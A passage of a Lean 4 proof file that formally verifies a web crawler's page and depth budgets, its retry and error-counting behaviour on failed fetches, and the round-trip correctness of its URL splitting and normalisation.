  · intro h0 hp
    exact scanUrl_depth0_visited cfg w h0 hp (cfg.max_depth + 1) seed

/-- Witness for C2: with the default configuration at depth 0, the crawl
in the all-fetches-fail world visits exactly the normalized seed and stays
within the 100-page budget. -/
theorem crawl_respects_budgets_witness :
    (cfgDepth0.max_depth = 0) ∧ (1 ≤ cfgDepth0.max_pages) ∧
    ((crawlFromSeed cfgDepth0 failWorld (("http://a.com/x/"))).visited_urls =
      [normalizeUrlStr (("http://a.com/x/"))]) ∧
    ((crawlFromSeed cfgDepth0 failWorld (("http://a.com/x/"))).stats.total_urls_scanned ≤
      cfgDepth0.max_pages) :=
  ⟨rfl, by decide,
   (crawl_respects_budgets cfgDepth0 failWorld (("http://a.com/x/"))).2 rfl (by decide),
   (crawl_respects_budgets cfgDepth0 failWorld (("http://a.com/x/"))).1⟩

/-! ## C7 — retry loop and error accounting on fetch failure -/

theorem makeRequestAux_all_fail (w : World) (url : String) :
    ∀ (rem attempt : Nat),
      (∀ a, attempt ≤ a → a < attempt + rem → w.fetch url a = none) →
      makeRequestAux w url attempt rem = (none, rem - 1) := by
  intro rem
  induction rem with
  | zero => intro attempt _; rfl
  | succ r ih =>
    intro attempt h
    rw [makeRequestAux]
    rw [h attempt (Nat.le_refl _) (by omega)]
    by_cases hr : r = 0
    · subst hr
      simp
    · rw [if_neg hr]
      rw [ih (attempt + 1) (fun a ha hb => h a (by omega) (by omega))]
      dsimp only
      congr 1
      omega

/-- Claim C7 (amended): when every attempt for a URL fails with a network
error, `_make_request` makes exactly `max_retries` attempts with
`max_retries - 1` `scan_delay` sleeps between them and returns `None`; the
scanner then simply returns from `_scan_url` for that URL — the URL stays
in the visited set (so the scan proceeds to the next URL), but NO
error-type counter is incremented: the entire state change is the visited
insertion and the retry sleeps. -/
theorem fetch_failure_semantics (cfg : ScanConfig) (w : World) (url : String)
    (fuel depth : Nat) (st : ScanState)
    (hfail : ∀ a, a < cfg.max_retries → w.fetch (normalizeUrlStr url) a = none)
    (hd : ¬ cfg.max_depth < depth)
    (hp : st.visited_urls.length < cfg.max_pages)
    (hv : normalizeUrlStr url ∉ st.visited_urls) :
    (make_request cfg w (normalizeUrlStr url) = (none, cfg.max_retries - 1)) ∧
    (scanUrlFuel cfg w (Nat.succ fuel) depth url st =
      { st with visited_urls := st.visited_urls ++ [normalizeUrlStr url],
                stats := st.stats.add_url (normalizeUrlStr url),
                retry_sleeps := st.retry_sleeps + (cfg.max_retries - 1) }) ∧
    ((scanUrlFuel cfg w (Nat.succ fuel) depth url st).stats.total_errors =
      st.stats.total_errors) ∧
    ((scanUrlFuel cfg w (Nat.succ fuel) depth url st).stats.errors_by_type =
      st.stats.errors_by_type) := by
  have hreq : make_request cfg w (normalizeUrlStr url) = (none, cfg.max_retries - 1) := by
    unfold make_request
    exact makeRequestAux_all_fail w (normalizeUrlStr url) cfg.max_retries 0
      (fun a _ hb => hfail a (by omega))
  have hbody : scanUrlFuel cfg w (Nat.succ fuel) depth url st =
      { st with visited_urls := st.visited_urls ++ [normalizeUrlStr url],
                stats := st.stats.add_url (normalizeUrlStr url),
                retry_sleeps := st.retry_sleeps + (cfg.max_retries - 1) } := by
    rw [scanUrlFuel, if_neg hd, if_neg (Nat.not_le.mpr hp)]
    dsimp only
    rw [if_neg hv, hreq]
  refine ⟨hreq, hbody, ?_, ?_⟩
  · rw [hbody]
    rfl
  · rw [hbody]
    rfl

/-- Witness for the amended C7 theorem in the all-fetches-fail world with
the default configuration (three attempts, two sleeps). -/
theorem fetch_failure_semantics_witness :
    ((make_request cfgDefault failWorld (normalizeUrlStr (("http://a.com/x")))) =
      (none, 2)) ∧
    ((scanUrlFuel cfgDefault failWorld 1 0 (("http://a.com/x")) ScanState.init).stats.total_errors = 0) :=
  ⟨(fetch_failure_semantics cfgDefault failWorld (("http://a.com/x")) 0 0
      ScanState.init (fun a _ => rfl) (by decide) (by decide) (by decide)).1,
   by
    rw [(fetch_failure_semantics cfgDefault failWorld (("http://a.com/x")) 0 0
      ScanState.init (fun a _ => rfl) (by decide) (by decide) (by decide)).2.2.1]
    rfl⟩

/-- Claim C7, counterexample: after a URL exhausts all three fetch
attempts, the crawl records the URL as visited and slept twice, yet
`total_errors` stays 0 and `errors_by_type` stays empty — no error-type
counter is incremented for exhausted retries (errors are only counted for
HTTP >= 400 responses or exceptions outside the request helper). -/
theorem fetch_failure_not_counted :
    ((crawlFromSeed cfgDefault failWorld (("http://a.com/x"))).stats.total_errors = 0) ∧
    ((crawlFromSeed cfgDefault failWorld (("http://a.com/x"))).stats.errors_by_type = []) ∧
    ((crawlFromSeed cfgDefault failWorld (("http://a.com/x"))).visited_urls =
      [("http://a.com/x")]) ∧
    ((crawlFromSeed cfgDefault failWorld (("http://a.com/x"))).retry_sleeps = 2) := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- Witness for C10 at a concrete two-response history. -/
theorem scanStats_performance_consistent_witness :
    ([((200 : Nat), (1 : ℚ)), ((404 : Nat), (3 : ℚ))] ≠
      ([] : List (Nat × ℚ))) ∧
    ((([((200 : Nat), (1 : ℚ)), ((404 : Nat), (3 : ℚ))].foldl
        (fun s p => s.add_response p.1 p.2) ScanStats.init)).avg_response_time =
      ([((200 : Nat), (1 : ℚ)), ((404 : Nat), (3 : ℚ))].foldl
        (fun s p => s.add_response p.1 p.2) ScanStats.init).total_response_time /
        (([((200 : Nat), (1 : ℚ)), ((404 : Nat), (3 : ℚ))].foldl
          (fun s p => s.add_response p.1 p.2) ScanStats.init).total_requests : ℚ)) :=
  ⟨by decide,
   (scanStats_performance_consistent.2
     [((200 : Nat), (1 : ℚ)), ((404 : Nat), (3 : ℚ))] (by decide)).1⟩

/-! ## C8 — normalization idempotence: character and list toolkit -/

theorem char_toNat_ofNat (n : Nat) (h : n.isValidChar) : (Char.ofNat n).toNat = n := by
  unfold Char.ofNat Char.toNat
  rw [dif_pos h]
  rfl

theorem toLower_toNat (c : Char) :
    (Char.toLower c).toNat =
      if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then c.toNat + 32 else c.toNat := by
  unfold Char.toLower
  dsimp only
  split
  · rw [char_toNat_ofNat _ (Or.inl (by omega))]
  · rfl

theorem toLower_toLower (c : Char) : Char.toLower (Char.toLower c) = Char.toLower c := by
  unfold Char.toLower
  dsimp only
  split
  · rw [char_toNat_ofNat _ (Or.inl (by omega))]
    rw [if_neg (by omega)]
  · rfl

theorem isUpper_iff (c : Char) : c.isUpper = true ↔ 65 ≤ c.toNat ∧ c.toNat ≤ 90 := by
  simp [Char.isUpper, UInt32.le_def, BitVec.le_def, Char.toNat]
  exact Iff.rfl

theorem isLower_iff (c : Char) : c.isLower = true ↔ 97 ≤ c.toNat ∧ c.toNat ≤ 122 := by
  simp [Char.isLower, UInt32.le_def, BitVec.le_def, Char.toNat]
  exact Iff.rfl

theorem isDigit_iff (c : Char) : c.isDigit = true ↔ 48 ≤ c.toNat ∧ c.toNat ≤ 57 := by
  simp [Char.isDigit, UInt32.le_def, BitVec.le_def, Char.toNat]
  exact Iff.rfl

theorem char_eq_iff_toNat (c d : Char) : c = d ↔ c.toNat = d.toNat := by
  constructor
  · intro h
    rw [h]
  · intro h
    exact Char.ext (UInt32.ext h)

theorem isAlpha_iff (c : Char) :
    c.isAlpha = true ↔ (65 ≤ c.toNat ∧ c.toNat ≤ 90) ∨ (97 ≤ c.toNat ∧ c.toNat ≤ 122) := by
  unfold Char.isAlpha
  rw [Bool.or_eq_true, isUpper_iff, isLower_iff]

theorem isSchemeChar_iff (c : Char) :
    isSchemeChar c = true ↔
      (65 ≤ c.toNat ∧ c.toNat ≤ 90) ∨ (97 ≤ c.toNat ∧ c.toNat ≤ 122) ∨
      (48 ≤ c.toNat ∧ c.toNat ≤ 57) ∨ c.toNat = 43 ∨ c.toNat = 45 ∨ c.toNat = 46 := by
  have h43 : ('+').toNat = 43 := rfl
  have h45 : ('-').toNat = 45 := rfl
  have h46 : ('.').toNat = 46 := rfl
  unfold isSchemeChar Char.isAlphanum
  simp only [Bool.or_eq_true, decide_eq_true_eq, isAlpha_iff, isDigit_iff,
    char_eq_iff_toNat, h43, h45, h46]
  tauto

theorem isAlpha_toLower (c : Char) (h : c.isAlpha = true) :
    (Char.toLower c).isAlpha = true := by
  rw [isAlpha_iff] at h ⊢
  rw [toLower_toNat]
  rcases h with h | h
  · rw [if_pos (by omega)]
    omega
  · rw [if_neg (by omega)]
    omega

theorem isSchemeChar_toLower (c : Char) (h : isSchemeChar c = true) :
    isSchemeChar (Char.toLower c) = true := by
  rw [isSchemeChar_iff] at h ⊢
  rw [toLower_toNat]
  by_cases hu : 65 ≤ c.toNat ∧ c.toNat ≤ 90
  · rw [if_pos hu]
    omega
  · rw [if_neg hu]
    omega

theorem schemeChar_safeByte (c : Char) (h : isSchemeChar c = true) :
    isUnsafeUrlByte c = false := by
  rw [isSchemeChar_iff] at h
  have h9 : ('\t').toNat = 9 := rfl
  have h13 : ('\r').toNat = 13 := rfl
  have h10 : ('\n').toNat = 10 := rfl
  unfold isUnsafeUrlByte
  simp only [Bool.or_eq_false_iff, decide_eq_false_iff_not, char_eq_iff_toNat,
    h9, h13, h10]
  omega

theorem alpha_not_c0 (c : Char) (h : c.isAlpha = true) :
    isC0ControlOrSpace c = false := by
  rw [isAlpha_iff] at h
  unfold isC0ControlOrSpace
  rw [decide_eq_false_iff_not]
  omega

theorem pyLower_pyLower (l : List Char) : pyLower (pyLower l) = pyLower l := by
  unfold pyLower
  rw [List.map_map]
  exact List.map_congr_left (fun c _ => toLower_toLower c)

theorem findIdxOf_eq_none (c : Char) (l : List Char) (h : c ∉ l) :
    findIdxOf c l = none := by
  unfold findIdxOf
  rw [List.findIdx?_eq_none_iff]
  intro x hx
  rw [decide_eq_false_iff_not]
  intro he
  exact h (he ▸ hx)

theorem findIdxOf_append_cons_aux (c : Char) (s r : List Char) (h : c ∉ s) :
    ∀ i, List.findIdx? (fun d => decide (d = c)) (s ++ c :: r) i =
      some (i + s.length) := by
  induction s with
  | nil =>
    intro i
    rw [List.nil_append, List.findIdx?_cons]
    simp
  | cons a t ih =>
    intro i
    rw [List.cons_append, List.findIdx?_cons]
    have ha : (decide (a = c)) = false := by
      rw [decide_eq_false_iff_not]
      intro he
      exact h (he ▸ List.mem_cons_self a t)
    rw [ha]
    rw [if_neg (by simp)]
    rw [ih (fun hm => h (List.mem_cons_of_mem a hm)) (i + 1)]
    congr 1
    simp
    omega

theorem findIdxOf_append_cons (c : Char) (s r : List Char) (h : c ∉ s) :
    findIdxOf c (s ++ c :: r) = some s.length := by
  unfold findIdxOf
  rw [show (List.findIdx? (fun d => decide (d = c)) (s ++ c :: r)) =
      (List.findIdx? (fun d => decide (d = c)) (s ++ c :: r) 0) from rfl]
  rw [findIdxOf_append_cons_aux c s r h 0]
  rw [Nat.zero_add]

theorem drop_length_append_cons (c : Char) (s r : List Char) :
    (s ++ c :: r).drop (s.length + 1) = r := by
  have : s ++ c :: r = (s ++ [c]) ++ r := by simp
  rw [this]
  have hl : s.length + 1 = (s ++ [c]).length := by simp
  rw [hl, List.drop_left]

theorem takeWhile_append_all (p : Char → Bool) (s r : List Char)
    (h : ∀ c ∈ s, p c = true) :
    (s ++ r).takeWhile p = s ++ r.takeWhile p := by
  induction s with
  | nil => rfl
  | cons a t ih =>
    rw [List.cons_append, List.takeWhile_cons, h a (List.mem_cons_self a t)]
    rw [ih (fun c hc => h c (List.mem_cons_of_mem a hc))]
    simp

theorem dropWhile_append_all (p : Char → Bool) (s r : List Char)
    (h : ∀ c ∈ s, p c = true) :
    (s ++ r).dropWhile p = r.dropWhile p := by
  induction s with
  | nil => rfl
  | cons a t ih =>
    rw [List.cons_append, List.dropWhile_cons, h a (List.mem_cons_self a t)]
    simp only [if_true]
    exact ih (fun c hc => h c (List.mem_cons_of_mem a hc))

theorem takeWhile_head_false (p : Char → Bool) (l : List Char)
    (h : l = [] ∨ p (l.headD ' ') = false) : l.takeWhile p = [] := by
  cases l with
  | nil => rfl
  | cons a t =>
    rcases h with h | h
    · cases h
    · rw [List.takeWhile_cons]
      simp only [List.headD_cons] at h
      rw [h]
      simp

theorem dropWhile_head_false (p : Char → Bool) (l : List Char)
    (h : l = [] ∨ p (l.headD ' ') = false) : l.dropWhile p = l := by
  cases l with
  | nil => rfl
  | cons a t =>
    rcases h with h | h
    · cases h
    · rw [List.dropWhile_cons]
      simp only [List.headD_cons] at h
      rw [h]
      simp

theorem dropWhile_head_prop (p : Char → Bool) (l : List Char) :
    l.dropWhile p = [] ∨ p ((l.dropWhile p).headD ' ') = false := by
  induction l with
  | nil => exact Or.inl rfl
  | cons a t ih =>
    rw [List.dropWhile_cons]
    cases hpa : p a
    · right
      rw [if_neg (by simp)]
      simpa using hpa
    · rw [if_pos rfl]
      exact ih

theorem headD_take (l : List Char) (i : Nat) (d : Char) (h : 0 < i) :
    (l.take i).headD d = l.headD d := by
  cases l with
  | nil => simp
  | cons a t =>
    cases i with
    | zero => omega
    | succ n => rfl

theorem cleanUrl_eq_self (l : List Char)
    (h1 : ∀ c ∈ l, isUnsafeUrlByte c = false)
    (h2 : l = [] ∨ isC0ControlOrSpace (l.headD ' ') = false) :
    cleanUrl l = l := by
  unfold cleanUrl
  rw [dropWhile_head_false _ _ h2]
  rw [List.filter_eq_self.mpr]
  intro c hc
  rw [h1 c hc]
  rfl

theorem splitScheme_of_prefix (s r : List Char) (hs : s ≠ [])
    (hcolon : (':') ∉ s)
    (hhead : (s.headD (' ')).isAlpha = true)
    (hall : s.all isSchemeChar = true)
    (hlow : pyLower s = s) :
    splitScheme (s ++ (':') :: r) = (s, r) := by
  unfold splitScheme
  rw [findIdxOf_append_cons _ _ _ hcolon]
  dsimp only
  rw [if_pos]
  · rw [List.take_left, drop_length_append_cons, hlow]
  · refine ⟨by cases s with | nil => exact absurd rfl hs | cons a t => simp, ?_, ?_⟩
    · cases s with
      | nil => exact absurd rfl hs
      | cons a t => simpa using hhead
    · rw [List.take_left]
      exact hall

theorem splitScheme_not_alpha (l : List Char)
    (h : (l.headD (' ')).isAlpha = false) :
    splitScheme l = ([], l) := by
  unfold splitScheme
  cases hf : findIdxOf (':') l with
  | none => rfl
  | some i =>
    dsimp only
    rw [if_neg]
    intro hc
    rw [h] at hc
    exact Bool.false_ne_true hc.2.1

theorem splitNetloc_recover (n r : List Char)
    (hn : ∀ c ∈ n, isNetlocDelim c = false)
    (hr : r = [] ∨ isNetlocDelim (r.headD (' ')) = true) :
    splitNetloc (('/') :: ('/') :: (n ++ r)) = (n, r) := by
  unfold splitNetloc
  rw [if_pos (by simp [List.isPrefixOf])]
  have hdrop : (('/') :: ('/') :: (n ++ r)).drop 2 = n ++ r := rfl
  rw [hdrop]
  have ht : List.takeWhile (fun c => !isNetlocDelim c) (n ++ r) = n := by
    rw [takeWhile_append_all _ _ _ (fun c hc => by rw [hn c hc]; rfl)]
    rw [takeWhile_head_false _ _ (by
      rcases hr with h | h
      · exact Or.inl h
      · exact Or.inr (by rw [h]; rfl))]
    rw [List.append_nil]
  have hd : List.dropWhile (fun c => !isNetlocDelim c) (n ++ r) = r := by
    rw [dropWhile_append_all _ _ _ (fun c hc => by rw [hn c hc]; rfl)]
    exact dropWhile_head_false _ _ (by
      rcases hr with h | h
      · exact Or.inl h
      · exact Or.inr (by rw [h]; rfl))
  rw [ht, hd]

theorem splitFragment_no_hash (l : List Char) (h : ('#') ∉ l) :
    splitFragment l = (l, []) := by
  unfold splitFragment
  rw [findIdxOf_eq_none _ _ h]

theorem splitQuery_no_q (l : List Char) (h : ('?') ∉ l) :
    splitQuery l = (l, []) := by
  unfold splitQuery
  rw [findIdxOf_eq_none _ _ h]

theorem splitQuery_recover (p q : List Char) (hp : ('?') ∉ p) :
    splitQuery (p ++ ('?') :: q) = (p, q) := by
  unfold splitQuery
  rw [findIdxOf_append_cons _ _ _ hp]
  dsimp only
  rw [List.take_left, drop_length_append_cons]

theorem headD_append (s r : List Char) (hs : s ≠ []) (d : Char) :
    (s ++ r).headD d = s.headD d := by
  cases s with
  | nil => exact absurd rfl hs
  | cons a t => rfl

theorem urlsplit_roundtrip (s n p2 q : List Char)
    (hslow : pyLower s = s)
    (hs : s = [] ∨ ((s.headD (' ')).isAlpha = true ∧
      s.all isSchemeChar = true ∧ (':') ∉ s))
    (hn : n ≠ [])
    (hnd : ∀ c ∈ n, isNetlocDelim c = false)
    (hnu : ∀ c ∈ n, isUnsafeUrlByte c = false)
    (hp2ne : p2 ≠ [])
    (hp2h : p2.headD (' ') = '/')
    (hp2q : ('?') ∉ p2)
    (hp2f : ('#') ∉ p2)
    (hp2u : ∀ c ∈ p2, isUnsafeUrlByte c = false)
    (hqf : ('#') ∉ q)
    (hqu : ∀ c ∈ q, isUnsafeUrlByte c = false) :
    urlsplitChars (urlunsplitChars ⟨s, n, p2, q, []⟩) = ⟨s, n, p2, q, []⟩ := by
  -- the leading-slash fix inside urlunsplit is a no-op
  have hp2h' : p2.headD ('/') = '/' := by
    cases p2 with
    | nil => rfl
    | cons a t => simpa using hp2h
  have hfix : ¬ (p2 ≠ [] ∧ p2.headD ('/') ≠ '/') := by
    intro hc
    exact hc.2 hp2h'
  -- the body after the authority: path plus optional query
  set rest2 : List Char := p2 ++ (if q = [] then [] else ('?') :: q) with hrest2
  have hrest2ne : rest2 ≠ [] := by
    rw [hrest2]
    cases p2 with
    | nil => exact absurd rfl hp2ne
    | cons a t => simp
  have hrest2h : rest2.headD (' ') = '/' := by
    rw [hrest2, headD_append _ _ hp2ne, hp2h]
  have hrest2f : ('#') ∉ rest2 := by
    rw [hrest2]
    intro hc
    rcases List.mem_append.mp hc with hc | hc
    · exact hp2f hc
    · by_cases hq : q = []
      · rw [if_pos hq] at hc
        cases hc
      · rw [if_neg hq] at hc
        rcases List.mem_cons.mp hc with hc | hc
        · cases hc
        · exact hqf hc
  -- the unparsed string
  have hout : urlunsplitChars ⟨s, n, p2, q, []⟩ =
      (if s = [] then [] else s ++ [(':')]) ++
        ('/') :: ('/') :: (n ++ rest2) := by
    unfold urlunsplitChars
    dsimp only
    rw [if_neg hfix, if_pos (Or.inl hn)]
    rw [if_neg (show ¬ ([] : List Char) ≠ [] from fun h => h rfl)]
    by_cases hsE : s = []
    · rw [if_neg (show ¬ s ≠ [] from fun h => h hsE), if_pos hsE]
      by_cases hq : q = []
      · rw [if_neg (show ¬ q ≠ [] from fun h => h hq), hrest2, if_pos hq]
        simp
      · rw [if_pos hq, hrest2, if_neg hq]
        simp
    · rw [if_pos hsE, if_neg hsE]
      by_cases hq : q = []
      · rw [if_neg (show ¬ q ≠ [] from fun h => h hq), hrest2, if_pos hq]
        simp
      · rw [if_pos hq, hrest2, if_neg hq]
        simp
  -- characters of the output are clean
  have hcleanChars : ∀ c ∈ urlunsplitChars ⟨s, n, p2, q, []⟩,
      isUnsafeUrlByte c = false := by
    rw [hout]
    intro c hc
    rcases List.mem_append.mp hc with hc | hc
    · by_cases hsE : s = []
      · rw [if_pos hsE] at hc
        cases hc
      · rw [if_neg hsE] at hc
        rcases List.mem_append.mp hc with hc | hc
        · rcases hs with hs | hs
          · exact absurd hs hsE
          · exact schemeChar_safeByte c (by
              have := List.all_eq_true.mp hs.2.1 c hc
              simpa using this)
        · rcases List.mem_singleton.mp hc with rfl
          rfl
    · rcases List.mem_cons.mp hc with rfl | hc
      · rfl
      · rcases List.mem_cons.mp hc with rfl | hc
        · rfl
        · rcases List.mem_append.mp hc with hc | hc
          · exact hnu c hc
          · rw [hrest2] at hc
            rcases List.mem_append.mp hc with hc | hc
            · exact hp2u c hc
            · by_cases hq : q = []
              · rw [if_pos hq] at hc
                cases hc
              · rw [if_neg hq] at hc
                rcases List.mem_cons.mp hc with rfl | hc
                · rfl
                · exact hqu c hc
  -- the cleaning step is the identity on the output
  have hclean : cleanUrl (urlunsplitChars ⟨s, n, p2, q, []⟩) =
      urlunsplitChars ⟨s, n, p2, q, []⟩ := by
    refine cleanUrl_eq_self _ hcleanChars ?_
    right
    rw [hout]
    by_cases hsE : s = []
    · rw [if_pos hsE, List.nil_append]
      rfl
    · rw [if_neg hsE, headD_append _ _ (by
        cases s with
        | nil => exact absurd rfl hsE
        | cons a t => simp)]
      rw [headD_append _ _ hsE]
      rcases hs with hs | hs
      · exact absurd hs hsE
      · exact alpha_not_c0 _ hs.1
  -- scheme extraction on the output
  have hscheme : splitScheme (urlunsplitChars ⟨s, n, p2, q, []⟩) =
      (s, ('/') :: ('/') :: (n ++ rest2)) := by
    rw [hout]
    by_cases hsE : s = []
    · rw [if_pos hsE, List.nil_append, hsE]
      exact splitScheme_not_alpha _ (by rfl)
    · rw [if_neg hsE]
      rcases hs with hs | hs
      · exact absurd hs hsE
      · have : s ++ [(':')] ++ ('/') :: ('/') :: (n ++ rest2) =
            s ++ (':') :: (('/') :: ('/') :: (n ++ rest2)) := by
          simp
        rw [this]
        exact splitScheme_of_prefix _ _ hsE hs.2.2 hs.1 hs.2.1 hslow
  -- netloc extraction
  have hnet : splitNetloc (('/') :: ('/') :: (n ++ rest2)) = (n, rest2) := by
    refine splitNetloc_recover n rest2 hnd (Or.inr ?_)
    rw [hrest2h]
    rfl
  -- fragment and query
  have hfrag : splitFragment rest2 = (rest2, []) := splitFragment_no_hash _ hrest2f
  have hquery : splitQuery rest2 = (p2, q) := by
    by_cases hq : q = []
    · rw [hrest2, if_pos hq, List.append_nil, hq]
      exact splitQuery_no_q _ hp2q
    · rw [hrest2, if_neg hq]
      exact splitQuery_recover _ _ hp2q
  -- assemble
  unfold urlsplitChars
  dsimp only
  rw [hclean, hscheme]
  dsimp only
  rw [hnet]
  dsimp only
  rw [hfrag]
  dsimp only
  rw [hquery]

theorem findIdxOf_not_mem_take (c : Char) (l : List Char) (i : Nat)
    (h : findIdxOf c l = some i) : c ∉ l.take i := by
  unfold findIdxOf at h
  rw [List.findIdx?_eq_some_iff_getElem] at h
  obtain ⟨hlen, -, hbefore⟩ := h
  intro hmem
  obtain ⟨j, hj, hget⟩ := List.mem_iff_getElem.mp hmem
  have hjlt : j < i := by
    have := hj
    rw [List.length_take] at this
    omega
  have hjl : j < l.length := Nat.lt_trans hjlt hlen
  have hgl : l[j] = c := by
    rw [← hget]
    exact (List.getElem_take _).symm
  have := hbefore j hjlt
  rw [hgl] at this
  simp at this

theorem mem_of_findIdxOf_none (c : Char) (l : List Char)
    (h : findIdxOf c l = none) : c ∉ l := by
  unfold findIdxOf at h
  rw [List.findIdx?_eq_none_iff] at h
  intro hmem
  have := h c hmem
  simp at this

theorem splitFragment_fst_not_mem (l : List Char) : ('#') ∉ (splitFragment l).1 := by
  unfold splitFragment
  cases hf : findIdxOf ('#') l with
  | none => exact mem_of_findIdxOf_none _ _ hf
  | some i => exact findIdxOf_not_mem_take _ _ _ hf

theorem splitQuery_fst_not_mem (l : List Char) : ('?') ∉ (splitQuery l).1 := by
  unfold splitQuery
  cases hf : findIdxOf ('?') l with
  | none => exact mem_of_findIdxOf_none _ _ hf
  | some i => exact findIdxOf_not_mem_take _ _ _ hf

theorem splitFragment_fst_sublist (l : List Char) : (splitFragment l).1.Sublist l := by
  unfold splitFragment
  cases findIdxOf ('#') l with
  | none => exact List.Sublist.refl l
  | some i => exact List.take_sublist i l

theorem splitFragment_snd_sublist (l : List Char) : (splitFragment l).2.Sublist l := by
  unfold splitFragment
  cases findIdxOf ('#') l with
  | none => exact List.nil_sublist l
  | some i => exact List.drop_sublist (i + 1) l

theorem splitQuery_fst_sublist (l : List Char) : (splitQuery l).1.Sublist l := by
  unfold splitQuery
  cases findIdxOf ('?') l with
  | none => exact List.Sublist.refl l
  | some i => exact List.take_sublist i l

theorem splitQuery_snd_sublist (l : List Char) : (splitQuery l).2.Sublist l := by
  unfold splitQuery
  cases findIdxOf ('?') l with
  | none => exact List.nil_sublist l
  | some i => exact List.drop_sublist (i + 1) l

theorem splitParams_fst_sublist (l : List Char) : (splitParams l).1.Sublist l := by
  unfold splitParams
  by_cases hm : ('/') ∈ l
  · rw [if_pos hm]
    cases findIdxFrom (';') ((lastIdxOf ('/') l).getD 0) l with
    | none => exact List.Sublist.refl l
    | some i => exact List.take_sublist i l
  · rw [if_neg hm]
    cases findIdxOf (';') l with
    | none => exact List.Sublist.refl l
    | some i => exact List.take_sublist i l

theorem splitParams_snd_sublist (l : List Char) : (splitParams l).2.Sublist l := by
  unfold splitParams
  by_cases hm : ('/') ∈ l
  · rw [if_pos hm]
    cases findIdxFrom (';') ((lastIdxOf ('/') l).getD 0) l with
    | none => exact List.nil_sublist l
    | some i => exact List.drop_sublist (i + 1) l
  · rw [if_neg hm]
    cases findIdxOf (';') l with
    | none => exact List.nil_sublist l
    | some i => exact List.drop_sublist (i + 1) l

theorem splitScheme_snd_sublist (l : List Char) : (splitScheme l).2.Sublist l := by
  unfold splitScheme
  cases findIdxOf (':') l with
  | none => exact List.Sublist.refl l
  | some i =>
    dsimp only
    split
    · exact List.drop_sublist (i + 1) l
    · exact List.Sublist.refl l

theorem splitNetloc_fst_sublist (l : List Char) : (splitNetloc l).1.Sublist l := by
  unfold splitNetloc
  split
  · exact ((l.drop 2).takeWhile_sublist _).trans (List.drop_sublist 2 l)
  · exact List.nil_sublist l

theorem splitNetloc_snd_sublist (l : List Char) : (splitNetloc l).2.Sublist l := by
  unfold splitNetloc
  split
  · exact ((l.drop 2).dropWhile_sublist _).trans (List.drop_sublist 2 l)
  · exact List.Sublist.refl l

theorem splitScheme_scheme_lower (l : List Char) :
    pyLower (splitScheme l).1 = (splitScheme l).1 := by
  unfold splitScheme
  cases findIdxOf (':') l with
  | none => rfl
  | some i =>
    dsimp only
    split
    · exact pyLower_pyLower _
    · rfl

theorem splitScheme_scheme_props (l : List Char) :
    (splitScheme l).1 = [] ∨
      (((splitScheme l).1.headD (' ')).isAlpha = true ∧
       (splitScheme l).1.all isSchemeChar = true ∧ (':') ∉ (splitScheme l).1) := by
  unfold splitScheme
  cases hf : findIdxOf (':') l with
  | none => exact Or.inl rfl
  | some i =>
    dsimp only
    split
    · rename_i hcond
      obtain ⟨hi, hhead, hall⟩ := hcond
      right
      have hlne : l ≠ [] := by
        intro he
        rw [he] at hf
        cases hf
      refine ⟨?_, ?_, ?_⟩
      · cases l with
        | nil => exact absurd rfl hlne
        | cons a t =>
          cases i with
          | zero => exact absurd hi (by omega)
          | succ m =>
            show ((Char.toLower a :: pyLower (t.take m)).headD (' ')).isAlpha = true
            rw [List.headD_cons]
            apply isAlpha_toLower
            simpa using hhead
      · unfold pyLower
        rw [List.all_map]
        rw [List.all_eq_true] at hall ⊢
        intro c hc
        exact isSchemeChar_toLower c (hall c hc)
      · intro hmem
        unfold pyLower at hmem
        obtain ⟨d, hd, hde⟩ := List.mem_map.mp hmem
        rw [List.all_eq_true] at hall
        have := isSchemeChar_toLower d (hall d hd)
        rw [hde] at this
        rw [isSchemeChar_iff] at this
        have h58 : (':').toNat = 58 := rfl
        rw [h58] at this
        omega
    · exact Or.inl rfl

theorem splitNetloc_fst_nodelim (l : List Char) :
    ∀ c ∈ (splitNetloc l).1, isNetlocDelim c = false := by
  unfold splitNetloc
  split
  · intro c hc
    have := List.mem_takeWhile_imp hc
    simpa using this
  · intro c hc
    cases hc

theorem splitNetloc_snd_head (l : List Char) :
    (splitNetloc l).1 = [] ∨ (splitNetloc l).2 = [] ∨
      isNetlocDelim ((splitNetloc l).2.headD (' ')) = true := by
  unfold splitNetloc
  split
  · right
    rcases dropWhile_head_prop (fun c => !isNetlocDelim c) (l.drop 2) with h | h
    · exact Or.inl h
    · right
      simpa using h
  · exact Or.inl rfl

theorem splitFragment_fst_head (l : List Char) (d : Char) :
    (splitFragment l).1 = [] ∨ (splitFragment l).1.headD d = l.headD d := by
  unfold splitFragment
  cases findIdxOf ('#') l with
  | none => exact Or.inr rfl
  | some i =>
    cases i with
    | zero => exact Or.inl rfl
    | succ m => exact Or.inr (headD_take l (m + 1) d (by omega))

theorem splitQuery_fst_head (l : List Char) (d : Char) :
    (splitQuery l).1 = [] ∨ (splitQuery l).1.headD d = l.headD d := by
  unfold splitQuery
  cases findIdxOf ('?') l with
  | none => exact Or.inr rfl
  | some i =>
    cases i with
    | zero => exact Or.inl rfl
    | succ m => exact Or.inr (headD_take l (m + 1) d (by omega))

theorem cleanUrl_chars (u : List Char) :
    ∀ c ∈ cleanUrl u, isUnsafeUrlByte c = false := by
  intro c hc
  unfold cleanUrl at hc
  have := List.of_mem_filter hc
  simpa using this

theorem urlsplit_scheme_lower (u : List Char) :
    pyLower (urlsplitChars u).scheme = (urlsplitChars u).scheme :=
  splitScheme_scheme_lower (cleanUrl u)

theorem urlsplit_scheme_props (u : List Char) :
    (urlsplitChars u).scheme = [] ∨
      (((urlsplitChars u).scheme.headD (' ')).isAlpha = true ∧
       (urlsplitChars u).scheme.all isSchemeChar = true ∧
       (':') ∉ (urlsplitChars u).scheme) :=
  splitScheme_scheme_props (cleanUrl u)

theorem urlsplit_netloc_nodelim (u : List Char) :
    ∀ c ∈ (urlsplitChars u).netloc, isNetlocDelim c = false :=
  splitNetloc_fst_nodelim _

theorem urlsplit_path_no_q (u : List Char) : ('?') ∉ (urlsplitChars u).path :=
  splitQuery_fst_not_mem _

theorem urlsplit_path_no_hash (u : List Char) : ('#') ∉ (urlsplitChars u).path := by
  intro hc
  exact splitFragment_fst_not_mem _
    ((splitQuery_fst_sublist _).subset hc)

theorem urlsplit_query_no_hash (u : List Char) : ('#') ∉ (urlsplitChars u).query := by
  intro hc
  exact splitFragment_fst_not_mem _
    ((splitQuery_snd_sublist _).subset hc)

theorem urlsplit_netloc_sublist (u : List Char) :
    (urlsplitChars u).netloc.Sublist (cleanUrl u) :=
